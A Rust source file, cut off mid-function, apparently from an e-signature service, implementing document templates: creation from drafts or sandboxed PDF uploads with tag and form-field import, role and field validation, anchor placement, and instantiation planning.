//! Templates (issue #32, docs/templates.md): made from a DRAFT document or an uploaded PDF,
//! updated, listed, archived, and instantiated as a document, sent at once if asked, in one
//! transaction through the drafting flows' own parts.

use std::collections::{BTreeMap, HashMap};

use chrono::{Duration, SecondsFormat, Utc};
use sqlx::{PgPool, types::Json};

use crate::{
    effects::{self, DocumentEvent, Subject},
    error::{Error, Problems, Result, Rule},
    flows::{drafting, signing},
    infra::{files::FileStore, notify::Notifier, pdf_sandbox::PdfSandbox},
    model::{
        AccountId, Actor, DocumentId, DocumentStatus, Field, FieldId, FieldType, RecipientId,
        RecipientRole, ReminderDefaults, TemplateFieldId, TemplateId, TemplateRoleId,
    },
    store::{
        accounts, documents, fields,
        fields::NewField,
        idempotency::Receipt,
        pending_files, recipients,
        templates::{
            self, NewRole, NewTemplate, NewTemplateField, Template, TemplateDefaults,
            TemplateField, TemplateRole,
        },
    },
    wire::{
        body::Parsed,
        inputs::{self, RecipientInput, SendInput, SendRequest},
        spreadsheet,
        templates::{
            FieldMarkInput, InstantiateInput, TemplateFieldInput, TemplateInput, TemplateRoleInput,
            TemplateUpdateInput,
        },
    },
};

pub use inputs::MAX_ROLE_NAME_CHARS;
/// The most roles of a template, as the most recipients of a document.
pub const MAX_ROLES: usize = inputs::MAX_RECIPIENTS_PER_DOCUMENT;
const _: () = assert!(signet_pdf::MAX_TAGS == inputs::MAX_FIELDS_PER_DOCUMENT);
/// The title of a template uploaded without one.
pub const UNTITLED: &str = "Untitled template";

/// The name of the role a PDF's imported form fields are given when no tag names one.
pub const FORM_ROLE: &str = "Role 1";

/// Where the roles and fields of a template made from a PDF come from; neither: it has no
/// roles until an update gives them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct FieldSources {
    /// The text tags written in the PDF (`{{signature:Tenant}}`), which are taken out of it.
    pub tags: bool,
    /// The PDF's own form fields (its AcroForm), in the first role ([`FORM_ROLE`] unless tags
    /// name one).
    pub form: bool,
}

impl FieldSources {
    /// Reads the `fields` query parameter: `tags`, `form` or both, separated by a comma.
    pub fn from_query(value: Option<&str>) -> Result<FieldSources> {
        let mut sources = FieldSources::default();
        for part in value
            .unwrap_or_default()
            .split(',')
            .filter(|p| !p.is_empty())
        {
            match part {
                "tags" => sources.tags = true,
                "form" => sources.form = true,
                _ => {
                    return Err(Error::invalid(
                        "fields",
                        "tags (the PDF's text tags), form (its form fields), or tags,form",
                    ));
                }
            }
        }
        Ok(sources)
    }
}

/// Makes template `id` from an uploaded PDF, checked in the sandbox as a document's upload is
/// and stored under the template's own key. A title not given, or blank, is [`UNTITLED`].
/// Its roles and fields are those `sources` find (checked as an update's are; a tag that does
/// not parse is named `tags[<n>]`, a form field of a kind Signet does not take `form[<i>]`);
/// with tags, the PDF stored is the upload without the tags' text.
#[tracing::instrument(name = "templates::create_from_pdf", skip_all)]
#[allow(clippy::too_many_arguments)]
pub async fn create_from_pdf(
    pool: &PgPool,
    store: &FileStore,
    account_id: AccountId,
    id: TemplateId,
    title: Option<&str>,
    bytes: Vec<u8>,
    sources: FieldSources,
    sandbox: &PdfSandbox,
    receipt: Option<&Receipt>,
) -> Result<()> {
    let title = title.map(str::trim).filter(|t| !t.is_empty());
    let title = inputs::validate_title(title.unwrap_or(UNTITLED))?;
    let mut problems = Problems::default();
    let (inspected, bytes, mut roles) =
        find_fields(sandbox, bytes, sources, true, &mut problems).await?;
    label_blank_fields(&mut roles);
    let (roles, fields) = new_roles(&inspected.page_sizes, roles, &mut problems);
    problems.into_result()?;
    accounts::find(pool, account_id).await?;
    let file_key = FileStore::template_key(account_id, id);
    // As for a document's upload: recorded before the write, so that a file whose template is
    // never committed is found and removed by the sweep.
    pending_files::record_for_template(pool, &file_key, id).await?;
    if let Err(e) = store.put(&file_key, bytes.into()).await {
        let _ = pending_files::forget(pool, &file_key).await;
        return Err(e.into());
    }
    let created = async {
        let mut tx = pool.begin().await?;
        templates::insert(
            &mut tx,
            &NewTemplate {
                id,
                account_id,
                title: &title,
                file_key: &file_key,
                sha256: &inspected.sha256,
                page_sizes: &inspected.page_sizes,
                source_document_id: None,
                defaults: TemplateDefaults::default(),
            },
            &roles,
            &fields,
        )
        .await?;
        pending_files::settle(&mut tx, &file_key).await?;
        drafting::store_receipt(&mut tx, receipt).await?;
        tx.commit().await?;
        Ok(())
    }
    .await;
    if created.is_err() && store.remove(&file_key).await.is_ok() {
        let _ = pending_files::forget(pool, &file_key).await;
    }
    created
}

/// The PDF checked in the sandbox, the PDF to store (without the tags' text, with `tags`) and
/// the roles and fields `sources` find, unlabelled; a tag that does not parse is named
/// `tags[<n>]`, a form field of a kind Signet does not take `form[<i>]`. Without form fields
/// to import, `form_required` refuses the PDF naming `fields`.
pub(crate) async fn find_fields(
    sandbox: &PdfSandbox,
    bytes: Vec<u8>,
    sources: FieldSources,
    form_required: bool,
    problems: &mut Problems,
) -> Result<(signet_pdf::InspectedPdf, Vec<u8>, Vec<TemplateRoleInput>)> {
    let (inspected, bytes, mut roles) = if sources.tags {
        let (taken, cleaned) = sandbox.take_tags(&bytes, ()).await?;
        if taken.tags.len() > signet_pdf::MAX_TAGS {
            return Err(Error::invalid(
                "file",
                format!(
                    "the PDF has more than {} text tags: a template has at most {} fields",
                    signet_pdf::MAX_TAGS,
                    inputs::MAX_FIELDS_PER_DOCUMENT
                ),
            ));
        }
        let roles =
            crate::wire::tags::template_roles(&taken.tags, &taken.inspected.page_sizes, problems);
        (taken.inspected, cleaned.unwrap_or(bytes), roles)
    } else {
        (sandbox.inspect(&bytes, ()).await?, bytes, Vec::new())
    };
    if sources.form {
        let found = sandbox
            .import_form(&bytes)
            .await
            .map_err(|e| Error::invalid("file", format!("its form fields cannot be read: {e}")))?;
        if found.is_empty() && !form_required {
            return Ok((inspected, bytes, roles));
        }
        let fields = form_fields(found, problems)?;
        match roles.first_mut() {
            Some(first) => first.fields.extend(fields),
            None => roles.push(TemplateRoleInput {
                name: FORM_ROLE.to_owned(),
                role: RecipientRole::Signer,
                signing_order: None,
                language: None,
                fields,
            }),
        }
    }
    Ok((inspected, bytes, roles))
}

/// A PDF's form fields (each the JSON of a field as `PATCH /templates/{id}` takes it) read as
/// template fields; one of a kind Signet does not take is named `form[<i>]`. A PDF without form
/// fields is refused, naming `fields`.
fn form_fields(
    found: Vec<serde_json::Value>,
    problems: &mut Problems,
) -> Result<Vec<TemplateFieldInput>> {
    if found.is_empty() {
        return Err(Error::invalid(
            "fields",
            "the PDF has no form fields to import",
        ));
    }
    let mut fields = Vec::with_capacity(found.len());
    for (i, field) in found.into_iter().enumerate() {
        let named = format!(
            "{} ({})",
            field["label"].as_str().unwrap_or_default(),
            field["type"].as_str().unwrap_or_default()
        );
        match serde_json::from_value::<TemplateFieldInput>(field) {
            Ok(mut field) => {
                // The PDF's author named its fields, not the uploader: a name that would begin a
                // CSV header cell with a formula start loses it (left blank, it is generated).
                field.label = spreadsheet::without_formula_start(&field.label).to_owned();
                fields.push(field);
            }
            Err(e) => problems.invalid(format!("form[{i}]"), format!("{named}: {e}")),
        }
    }
    Ok(fields)
}

/// Replaces what `input` names of the account's template (title, defaults, roles with their
/// fields as a whole list), in one transaction; documents made from it keep their copies.
#[tracing::instrument(name = "templates::update", skip_all)]
#[allow(clippy::too_many_arguments)]
pub async fn update(
    pool: &PgPool,
    store: &FileStore,
    sandbox: &PdfSandbox,
    account_id: AccountId,
    id: TemplateId,
    input: Parsed<TemplateUpdateInput>,
    reminder_defaults: ReminderDefaults,
) -> Result<()> {
    let mut problems = Problems::of_reading(input.problems);
    let mut input = input.value;
    if let Some(roles) = &mut input.roles {
        place_anchored(pool, store, sandbox, account_id, id, roles, &mut problems).await?;
    }
    let mut tx = pool.begin().await?;
    let mut template = match templates::lock(&mut tx, account_id, id).await {
        Ok(template) if template.archived_at.is_some() => {
            return Err(problems.before(Error::TemplateArchived));
        }
        Ok(template) => template,
        Err(refusal) => return Err(problems.before(refusal)),
    };
    if let Some(title) = input.title.as_deref() {
        template.title = title_or(Some(title), &template.title, &mut problems);
    }
    inputs::validate_send_defaults(
        input.message.as_ref().and_then(Option::as_deref),
        input.description.as_ref().and_then(Option::as_deref),
        input.expiry_days.flatten(),
        input.reminders.as_ref().and_then(Option::as_ref),
        reminder_defaults,
        &mut problems,
    );
    let roles = input
        .roles
        .map(|roles| new_roles(&template.page_sizes, roles, &mut problems));
    problems.into_result()?;
    if let Some(message) = input.message {
        template.message = message;
    }
    if let Some(description) = input.description {
        template.description = description;
    }
    if let Some(days) = input.expiry_days {
        template.expiry_days = days.map(|d| d as i32);
    }
    if let Some(reminders) = input.reminders {
        template.reminders = reminders.map(Json);
    }
    if let Some(language) = input.language {
        template.language.0 = language;
    }
    templates::update(&mut tx, &template).await?;
    if let Some((roles, fields)) = roles {
        templates::replace_roles(&mut tx, id, &roles, &fields).await?;
    }
    tx.commit().await?;
    Ok(())
}

/// Places the roles' fields given by an anchor where the template's PDF shows its text (read
/// in the PDF sandbox), as a document's fields are placed; one not found is a problem named
/// `roles[i].fields[j].anchor`.
async fn place_anchored(
    pool: &PgPool,
    store: &FileStore,
    sandbox: &PdfSandbox,
    account_id: AccountId,
    id: TemplateId,
    roles: &mut [TemplateRoleInput],
    problems: &mut Problems,
) -> Result<()> {
    if roles
        .iter()
        .flat_map(|r| &r.fields)
        .all(|f| f.anchor.is_none())
    {
        return Ok(());
    }
    let template = templates::find(&mut *pool.acquire().await?, account_id, id).await?;
    let pdf = store.get(&template.file_key).await?;
    for (i, role) in roles.iter_mut().enumerate() {
        // Each role's fields as a document's: the anchors' rules and messages are one.
        let given: Vec<inputs::FieldInput> = role
            .fields
            .iter()
            .map(|f| inputs::FieldInput {
                recipient_email: "-".into(),
                field_type: f.field_type,
                page: f.page,
                x: f.x,
                y: f.y,
                width: f.width,
                height: f.height,
                anchor: f.anchor.clone(),
                // The place, and the label numbered for further occurrences, are taken back.
                label: Some(f.label.clone()).filter(|l| !l.trim().is_empty()),
                required: None,
                value: None,
                read_only: None,
                options: None,
                min: None,
                max: None,
                decimals: None,
                max_length: None,
                pattern: None,
            })
            .collect();
        if given.iter().all(|f| f.anchor.is_none()) {
            continue;
        }
        let mut found_problems = Problems::default();
        let texts = inputs::anchor_texts(&given, &mut found_problems);
        let found = if texts.is_empty() {
            Vec::new()
        } else {
            let needles = texts.iter().map(|(_, text)| text.clone()).collect();
            sandbox.find_text(&pdf, needles).await?
        };
        let resolved = inputs::resolve_anchors(given, &texts, &found, &mut found_problems);
        if let Err(Error::Invalid(list)) = found_problems.into_result() {
            for problem in list {
                problems.invalid(
                    format!("roles[{i}].fields{}", problem.field),
                    problem.reason,
                );
            }
        }
        let mut fields = Vec::with_capacity(resolved.len());
        for (j, placed) in resolved {
            let mut field = role.fields[j].clone();
            if let Some(label) = placed.label {
                field.label = label;
            }
            field.anchor = None;
            (field.page, field.x, field.y) = (placed.page, placed.x, placed.y);
            fields.push(field);
        }
        // Fields whose anchors were refused are left out; the problems say why.
        role.fields = fields;
    }
    Ok(())
}

/// Gives each field left without a label (blank) the one a template made from a draft would
/// give it, `<role>.<type>.<n>`: `n` counts the role's fields of that type, skipping labels
/// the template's other fields have. What is left is checked by [`update`] as given.
pub fn label_blank_fields(roles: &mut [TemplateRoleInput]) {
    let mut taken: std::collections::HashSet<String> = roles
        .iter()
        .flat_map(|r| &r.fields)
        .map(|f| f.label.trim().to_owned())
        .filter(|l| !l.is_empty())
        .collect();
    for role in roles {
        let name = label_safe(role.name.trim());
        let mut counts: HashMap<FieldType, usize> = HashMap::new();
        for field in &mut role.fields {
            let n = counts.entry(field.field_type).or_default();
            *n += 1;
            if !field.label.trim().is_empty() {
                continue;
            }
            let stem = format!("{name}.{}", field.field_type.as_str().to_lowercase());
            while taken.contains(&format!("{stem}.{n}")) {
                *n += 1;
            }
            field.label = format!("{stem}.{n}");
            taken.insert(field.label.clone());
        }
    }
}

/// The roles and fields an update sets, each checked: a role's name (unique), its signing
/// order, each field's label (unique in the template), its place on a page of the PDF (as a
/// document's field is placed), `readOnly` only on a TEXT field.
pub(crate) fn new_roles(
    page_sizes: &[signet_pdf::PageSize],
    input: Vec<TemplateRoleInput>,
    problems: &mut Problems,
) -> (Vec<NewRole>, Vec<NewTemplateField>) {
    // Counts are refused before anything is built from the roles.
    if input.len() > MAX_ROLES {
        problems.invalid("roles", format!("at most {MAX_ROLES} roles"));
        return (Vec::new(), Vec::new());
    }
    let fields_given: usize = input.iter().map(|r| r.fields.len()).sum();
    if fields_given > inputs::MAX_FIELDS_PER_DOCUMENT {
        problems.invalid(
            "roles",
            format!(
                "a template has at most {} fields",
                inputs::MAX_FIELDS_PER_DOCUMENT
            ),
        );
        return (Vec::new(), Vec::new());
    }
    let mut roles: Vec<NewRole> = Vec::with_capacity(input.len());
    let mut fields: Vec<NewTemplateField> = Vec::with_capacity(fields_given);
    let mut labels: HashMap<String, String> = HashMap::new();
    for (i, role) in input.into_iter().enumerate() {
        let at = format!("roles[{i}]");
        let name = role.name.trim().to_owned();
        if let Err(reason) = inputs::check_role_name(&name) {
            problems.invalid(format!("{at}.name"), reason);
        } else if roles.iter().any(|r| r.name == name) {
            problems.invalid(
                format!("{at}.name"),
                format!("{name} is the name of an earlier role: role names are unique"),
            );
        }
        let signing_order = match role.signing_order {
            Some(order) if !(1..=inputs::MAX_SIGNING_ORDER).contains(&order) => {
                problems.invalid(
                    format!("{at}.signingOrder"),
                    format!(
                        "must be a whole number from 1 to {}",
                        inputs::MAX_SIGNING_ORDER
                    ),
                );
                None
            }
            order => order.map(|o| o as i32),
        };
        let role_id = TemplateRoleId::new();
        for (j, field) in role.fields.into_iter().enumerate() {
            let at = format!("{at}.fields[{j}]");
            let label = match check_label(&field.label) {
                Err(reason) => {
                    problems.invalid(format!("{at}.label"), reason);
                    String::new()
                }
                Ok(label) => {
                    if let Some(earlier) = labels.insert(label.clone(), at.clone()) {
                        problems.invalid(
                            format!("{at}.label"),
                            format!("{label} is also the label of {earlier}: labels are unique in the template"),
                        );
                    }
                    label
                }
            };
            let properties = inputs::check_field_properties(
                &at,
                field.field_type,
                field.properties(),
                true,
                problems,
            );
            let width = field.width.unwrap_or(inputs::DEFAULT_FIELD_WIDTH);
            let height = field.height.unwrap_or(inputs::DEFAULT_FIELD_HEIGHT);
            let mut sized = true;
            for (name, value) in [("width", width), ("height", height)] {
                if !(value.is_finite() && value > 0.0) {
                    problems.invalid(format!("{at}.{name}"), "must be greater than 0");
                    sized = false;
                }
            }
            if field.anchor.is_some() {
                problems.invalid(format!("{at}.anchor"), "not taken here: give page, x and y");
            }
            for (name, given) in [
                ("page", field.page.is_some()),
                ("x", field.x.is_some()),
                ("y", field.y.is_some()),
            ] {
                if !given && field.anchor.is_none() {
                    problems.invalid(format!("{at}.{name}"), "is required");
                    sized = false;
                }
            }
            let (page, x, y) = (
                field.page.unwrap_or(1),
                field.x.unwrap_or(0.0),
                field.y.unwrap_or(0.0),
            );
            if sized
                && field.anchor.is_none()
                && let Err(rule) = drafting::check_bounds(page_sizes, page, x, y, width, height)
            {
                drafting::bounds_problem(problems, &at, rule);
            }
            fields.push(NewTemplateField {
                id: TemplateFieldId::new(),
                role_id,
                label,
                field_type: field.field_type,
                page: page.clamp(1, i64::from(i32::MAX)) as i32,
                x,
                y,
                width,
                height,
                read_only: properties.read_only,
                required: properties.required,
                rules: properties.rules,
                value: properties.value,
            });
        }
        roles.push(NewRole {
            id: role_id,
            name,
            role: role.role,
            signing_order,
            language: role.language.map(|l| l.tag().to_owned()),
        });
    }
    (roles, fields)
}

/// Makes template `id` from a DRAFT document of the account: its PDF (shared, not copied),
/// its recipients as roles and their fields, labelled `<role>.<type>.<n>`.
#[tracing::instrument(name = "templates::create", skip_all)]
pub async fn create(
    pool: &PgPool,
    account_id: AccountId,
    id: TemplateId,
    input: Parsed<TemplateInput>,
    reminder_defaults: ReminderDefaults,
    receipt: Option<&Receipt>,
) -> Result<()> {
    let mut problems = Problems::of_reading(input.problems);
    let input = input.value;
    let mut tx = pool.begin().await?;
    let document = match documents::lock(&mut tx, account_id, input.document_id).await {
        Ok(document) => document,
        Err(refusal) => return Err(problems.before(refusal)),
    };
    if document.status != DocumentStatus::Draft {
        return Err(problems.before(Rule::NotDraft.into()));
    }
    let people = recipients::list(&mut tx, document.id).await?;
    if people.is_empty() {
        return Err(problems.before(Rule::NoRecipients.into()));
    }
    let title = title_or(input.title.as_deref(), &document.title, &mut problems);
    let named = input.roles.unwrap_or_default();
    for email in named.keys() {
        if !people.iter().any(|p| p.email.eq_ignore_ascii_case(email)) {
            problems.invalid(format!("roles.{email}"), "not a recipient of the document");
        }
    }
    let mut roles: Vec<NewRole> = Vec::with_capacity(people.len());
    let mut role_of = HashMap::new();
    for recipient in &people {
        let given = named
            .iter()
            .find(|(email, _)| email.eq_ignore_ascii_case(&recipient.email));
        let name = match given {
            Some((email, name)) => {
                if let Err(reason) = inputs::check_role_name(name) {
                    problems.invalid(format!("roles.{email}"), reason);
                }
                name.trim().to_owned()
            }
            None => {
                let name: String = recipient.name.chars().take(MAX_ROLE_NAME_CHARS).collect();
                if inputs::begins_like_formula_or_mark(&name) {
                    problems.invalid(
                        format!("roles.{}", recipient.email),
                        format!(
                            "{}: the recipient's name does; name their role in roles",
                            inputs::ROLE_NAME_FORMULA_START
                        ),
                    );
                }
                name
            }
        };
        if roles.iter().any(|r| r.name == name) {
            problems.invalid(
                format!("roles.{}", recipient.email),
                format!("two recipients would both take the role {name}: name them apart in roles"),
            );
        }
        let role_id = TemplateRoleId::new();
        role_of.insert(recipient.id, (role_id, name.clone()));
        roles.push(NewRole {
            id: role_id,
            name,
            role: recipient.role,
            signing_order: recipient.signing_order,
            language: recipient.language.0.map(|l| l.tag().to_owned()),
        });
    }
    inputs::validate_send_defaults(
        input.message.as_deref(),
        input.description.as_deref(),
        input.expiry_days,
        input.reminders.as_ref(),
        reminder_defaults,
        &mut problems,
    );
    let source_fields = fields::list(&mut tx, document.id).await?;
    let new_fields = template_fields(
        &source_fields,
        &role_of,
        input.fields.unwrap_or_default(),
        &mut problems,
    );
    problems.into_result()?;
    templates::insert(
        &mut tx,
        &NewTemplate {
            id,
            account_id,
            title: &title,
            file_key: &document.file_key,
            sha256: &document.sha256,
            page_sizes: &document.page_sizes,
            source_document_id: Some(document.id),
            defaults: TemplateDefaults {
                message: input.message.as_deref(),
                description: input.description.as_deref(),
                expiry_days: input.expiry_days.map(|d| d as i32),
                reminders: input.reminders.as_ref(),
                language: input.language.map(|l| l.tag()),
            },
        },
        &roles,
        &new_fields,
    )
    .await?;
    drafting::store_receipt(&mut tx, receipt).await?;
    tx.commit().await?;
    Ok(())
}

/// The title given, checked as a document's title, or else `default`.
fn title_or(given: Option<&str>, default: &str, problems: &mut Problems) -> String {
    let Some(given) = given else {
        return default.to_owned();
    };
    match inputs::validate_title(given) {
        Ok(title) => title,
        Err(Error::Invalid(found)) => {
            for problem in found {
                problems.invalid(problem.field, problem.reason);
            }
            String::new()
        }
        Err(_) => {
            problems.invalid("title", "not a valid title");
            String::new()
        }
    }
}

pub use inputs::{MAX_LABEL_CHARS, check_label};

/// The document's fields as the template's: labelled and marked as `marks` says, by the
/// field's id; the others labelled `<role>.<type>.<n>` and read-only as the document's field
/// is. Every label is unique in the template; only TEXT fields are read-only.
fn template_fields(
    source: &[Field],
    role_of: &HashMap<RecipientId, (TemplateRoleId, String)>,
    marks: BTreeMap<String, FieldMarkInput>,
    problems: &mut Problems,
) -> Vec<NewTemplateField> {
    let mut mark_of: HashMap<FieldId, (String, FieldMarkInput)> = HashMap::new();
    for (key, mark) in marks {
        let found = key
            .parse::<FieldId>()
            .ok()
            .filter(|id| source.iter().any(|f| f.id == *id));
        match found {
            Some(id) if mark_of.contains_key(&id) => problems.invalid(
                format!("fields.{key}"),
                "names the same field as another key (the id written differently)",
            ),
            Some(id) => {
                mark_of.insert(id, (key, mark));
            }
            None => problems.invalid(format!("fields.{key}"), "not a field of the document"),
        }
    }
    // Labels given first, so that a generated one that takes a given one is the problem named.
    let mut labels: Vec<Option<String>> = vec![None; source.len()];
    let mut taken: HashMap<String, String> = HashMap::new();
    for (i, field) in source.iter().enumerate() {
        let Some((key, mark)) = mark_of.get(&field.id) else {
            continue;
        };
        if mark.read_only == Some(true) && !field.field_type.takes_prefill() {
            problems.invalid(
                format!("fields.{key}.readOnly"),
                format!(
                    "only a field that takes a value can be read-only: a {} field is {}",
                    field.field_type.as_str(),
                    own_value(field.field_type)
                ),
            );
        }
        let Some(given) = &mark.label else {
            continue;
        };
        let path = format!("fields.{key}.label");
        match check_label(given) {
            Ok(label) => match taken.get(&label) {
                Some(other) => problems.invalid(
                    path,
                    format!("the label {label} is given to another field too ({other})"),
                ),
                None => {
                    taken.insert(label.clone(), path);
                    labels[i] = Some(label);
                }
            },
            Err(reason) => problems.invalid(path, reason),
        }
    }
    let mut counts: HashMap<String, usize> = HashMap::new();
    let mut found = Vec::with_capacity(source.len());
    for (i, field) in source.iter().enumerate() {
        let Some((role_id, name)) = role_of.get(&field.recipient_id) else {
            continue;
        };
        let mark = mark_of.get(&field.id);
        let label = match labels[i].take() {
            Some(label) => label,
            // The document field's own label, unless a mark gave another (one label a field).
            None if field.label.is_some() && mark.is_none_or(|(_, m)| m.label.is_none()) => {
                let label = field.label.clone().unwrap_or_default();
                if let Some(other) = taken.get(&label) {
                    problems.invalid(
                        other.clone(),
                        format!("the label {label} is the label of another field of the document: choose another"),
                    );
                }
                label
            }
            None => {
                let stem = format!(
                    "{}.{}",
                    label_safe(name),
                    field.field_type.as_str().to_lowercase()
                );
                let n = counts.entry(stem.clone()).or_default();
                *n += 1;
                let label = format!("{stem}.{n}");
                if let Some(other) = taken.get(&label) {
                    problems.invalid(
                        other.clone(),
                        format!("the label {label} is the one another field of the template is given by default: choose another"),
                    );
                }
                label
            }
        };
        found.push(NewTemplateField {
            id: TemplateFieldId::new(),
            role_id: *role_id,
            label,
            field_type: field.field_type,
            page: field.page,
            x: field.x,
            y: field.y,
            width: field.width,
            height: field.height,
            read_only: mark
                .and_then(|(_, m)| m.read_only)
                .unwrap_or(field.read_only)
                && field.field_type.takes_prefill(),
            required: field.required,
            rules: field.rules.0.clone(),
            // A NAME field's recipient's name is theirs, not the template's: a document made
            // from it starts from its own recipient's name.
            value: field
                .value
                .clone()
                .filter(|_| field.field_type != FieldType::Name || field.read_only),
        });
    }
    found
}

/// Why a field of this type takes no value but its signer's (or the server's).
fn own_value(field_type: FieldType) -> &'static str {
    match field_type {
        FieldType::Date => "set to the signing date",
        _ => "its signer's own",
    }
}

/// A role's name as the start of a generated label: its first 80 characters (so that
/// `.signature.<n>` keeps the label within `MAX_LABEL_CHARS`, and an update can give the label
/// back as it is), letters, digits, `_`, `-`, `.` and space; others become `_`.
fn label_safe(name: &str) -> String {
    name.chars()
        .take(MAX_LABEL_CHARS - 20)
        .map(|c| {
            if c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ' ') {
                c
            } else {
                '_'
            }
        })
        .collect()
}

/// The account's template with its roles and their fields.
#[tracing::instrument(name = "templates::detail", skip_all)]
pub async fn detail(
    pool: &PgPool,
    account_id: AccountId,
    id: TemplateId,
) -> Result<(Template, Vec<TemplateRole>, Vec<TemplateField>)> {
    let mut conn = pool.acquire().await?;
    let template = templates::find(&mut conn, account_id, id).await?;
    let (roles, fields) = templates::roles_and_fields(&mut conn, id).await?;
    Ok((template, roles, fields))
}

/// Makes document `document_id` from the account's template: the document (CREATED), a
/// recipient per role with the person the request maps to it, their fields; with `send`, sent
/// as `POST /documents/{id}/send` sends. One transaction: a refusal creates nothing.
#[tracing::instrument(name = "templates::instantiate", skip_all)]
#[allow(clippy::too_many_arguments)]
pub async fn instantiate(
    pool: &PgPool,
    account_id: AccountId,
    template_id: TemplateId,
    document_id: DocumentId,
    input: Parsed<InstantiateInput>,
    actor: &Actor,
    notifier: &Notifier,
    receipt: Option<&Receipt>,
) -> Result<()> {
    let mut problems = Problems::of_reading(input.problems);
    let mut tx = pool.begin().await?;
    let template = match usable(&mut tx, account_id, template_id).await {
        Ok(template) => template,
        Err(refusal) => return Err(problems.before(refusal)),
    };
    if let Err(unready) = ready(&template) {
        problems.extend_at("", unready);
        return problems.into_result();
    }
    let plan = match plan(&template, input.value, notifier.reminders) {
        Ok(plan) => plan,
        Err(found) => {
            problems.extend_at("", found);
            return problems.into_result();
        }
    };
    problems.into_result()?;
    make(&mut tx, &template, document_id, plan, actor, notifier).await?;
    drafting::store_receipt(&mut tx, receipt).await?;
    tx.commit().await?;
    Ok(())
}

/// A template with its roles and fields, as instantiating it needs them.
pub struct Usable {
    pub template: Template,
    pub roles: Vec<TemplateRole>,
    pub fields: Vec<TemplateField>,
    /// Each field's place in `fields` by its label, so that a value finds its field at once.
    pub labels: HashMap<String, usize>,
}

/// The account's template, its roles and fields, unless it is archived.
pub async fn usable(
    conn: &mut sqlx::PgConnection,
    account_id: AccountId,
    template_id: TemplateId,
) -> Result<Usable> {
    let template = templates::find(&mut *conn, account_id, template_id).await?;
    if template.archived_at.is_some() {
        return Err(Error::TemplateArchived);
    }
    let (roles, fields) = templates::roles_and_fields(conn, template_id).await?;
    let labels = fields
        .iter()
        .enumerate()
        .map(|(index, field)| (field.label.clone(), index))
        .collect();
    Ok(Usable {
        template,
        roles,
        fields,
        labels,
    })
}

/// Whether documents can be made from the template: it has roles (one uploaded as a PDF has
/// none until an update gives them) and each has a field, as a send needs.
pub fn ready(usable: &Usable) -> std::result::Result<(), Problems> {
    let mut problems = Problems::default();
    if usable.roles.is_empty() {
        problems.broken(
            Rule::NoRecipients,
            "roles",
            "the template has no roles: give it roles and fields with PATCH /templates/{id}",
        );
    }
    for role in &usable.roles {
        if !usable.fields.iter().any(|f| f.role_id == role.id) {
            problems.broken(
                Rule::RecipientWithoutFields,
                format!("roles.{}", role.name),
                format!("the template's role {} has no field", role.name),
            );
        }
    }
    match problems.is_empty() {
        true => Ok(()),
        false => Err(problems),
    }
}

/// What one instantiation makes, checked: no problem was found making it.
pub struct Plan {
    pub title: String,
    /// One per role, in the template's order of roles.
    pub people: Vec<inputs::ValidRecipient>,
    /// Prefilled values: the index of the field in `Usable::fields`, and its value.
    pub values: Vec<(usize, String)>,
    /// `Some` when the document is sent at once.
    pub send: Option<SendRequest>,
}

/// Checks `input` against the template: the plan, or every problem found, each element named
/// as in a request of its own (`roles.Tenant.email`).
pub fn plan(
    usable: &Usable,
    input: InstantiateInput,
    reminder_defaults: ReminderDefaults,
) -> std::result::Result<Plan, Problems> {
    let mut problems = Problems::default();
    let problems = &mut problems;
    let Usable {
        template,
        roles,
        fields: template_fields,
        labels,
    } = usable;
    let title = title_or(input.title.as_deref(), &template.title, problems);
    for name in input.roles.keys() {
        if !roles.iter().any(|r| &r.name == name) {
            problems.invalid(format!("roles.{name}"), "not a role of this template");
        }
    }
    let mut people: Vec<(String, inputs::ValidRecipient)> = Vec::with_capacity(roles.len());
    for role in roles {
        let path = format!("roles.{}", role.name);
        let Some(person) = input.roles.get(&role.name) else {
            problems.invalid(path, "required: every role of the template takes a person");
            continue;
        };
        let recipient = RecipientInput {
            name: person.name.clone(),
            email: person.email.clone(),
            role: role.role,
            country_code: person.country_code.clone(),
            phone_number: person.phone_number.clone(),
            language: person.language.or(role.language.0),
            signing_order: role.signing_order.map(i64::from),
            embedded: false,
            authentication: None,
        };
        let Some(valid) = inputs::validate_recipient(&path, recipient, problems) else {
            continue;
        };
        if let Some((earlier, _)) = people
            .iter()
            .find(|(_, p)| p.email.matches(valid.email.as_str()))
        {
            problems.broken(
                Rule::DuplicateRecipient,
                format!("{path}.email"),
                format!(
                    "{} is given more than once in this request (also {earlier}.email)",
                    valid.email
                ),
            );
            continue;
        }
        people.push((path, valid));
    }
    let values = prefilled_values(
        template_fields,
        labels,
        input.values.unwrap_or_default(),
        problems,
    );
    let send = match input.send.unwrap_or(false) {
        false => None,
        true => {
            let expiry_date = input.expiry_date.clone().or_else(|| {
                template.expiry_days.map(|days| {
                    (Utc::now() + Duration::days(i64::from(days)))
                        .to_rfc3339_opts(SecondsFormat::Secs, true)
                })
            });
            inputs::validate_send(
                SendInput {
                    message: input
                        .message
                        .clone()
                        .or_else(|| template.message.clone())
                        .unwrap_or_default(),
                    description: input
                        .description
                        .clone()
                        .or_else(|| template.description.clone())
                        .unwrap_or_default(),
                    expiry_date: expiry_date.unwrap_or_default(),
                    language: input.language.or(template.language.0),
                    reminders: input
                        .reminders
                        .clone()
                        .or_else(|| template.reminders.clone().map(|Json(r)| r)),
                },
                reminder_defaults,
                problems,
            )
        }
    };
    if !problems.is_empty() {
        return Err(std::mem::take(problems));
    }
    Ok(Plan {
        title,
        people: people.into_iter().map(|(_, p)| p).collect(),
        values,
        send,
    })
}

/// The prefilled values by label, each checked against its field by the rule of a signer's
/// value for it; every read-only field has one (here or its template field's own).
fn prefilled_values(
    template_fields: &[TemplateField],
    labels: &HashMap<String, usize>,
    values: BTreeMap<String, String>,
    problems: &mut Problems,
) -> Vec<(usize, String)> {
    let mut found = Vec::with_capacity(values.len());
    for (label, value) in &values {
        let path = format!("values.{label}");
        let Some(&index) = labels.get(label) else {
            problems.invalid(path, "not a field label of this template");
            continue;
        };
        let field = &template_fields[index];
        let field_type = field.field_type;
        if !field_type.takes_prefill() {
            problems.invalid(
                path,
                format!(
                    "only a field that takes a value can be prefilled: a {} field is {}",
                    field_type.as_str(),
                    own_value(field_type)
                ),
            );
            continue;
        }
        match signing::normalise_value(field_type, &field.rules, value) {
            Ok(value) => found.push((index, value)),
            Err(reason) => problems.invalid(path, reason),
        }
    }
    for field in template_fields
        .iter()
        .filter(|f| f.read_only && f.value.is_none())
    {
